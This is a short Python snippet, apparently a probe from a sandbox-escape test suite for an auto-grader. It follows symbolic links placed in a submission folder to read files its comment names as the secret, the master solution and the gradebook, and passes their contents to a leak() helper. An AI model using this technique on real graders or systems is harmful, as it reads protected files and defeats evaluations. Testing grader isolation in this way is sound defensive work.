# Read through symbolic links shipped in the submission folder (to the secret, the master, the gradebook).
import os
for _name in sorted(os.listdir(".")):
    if os.path.islink(_name):
        try:
            leak(_name + " -> " + os.readlink(_name), open(_name, "rb").read(400))
        except OSError:
            pass
done()
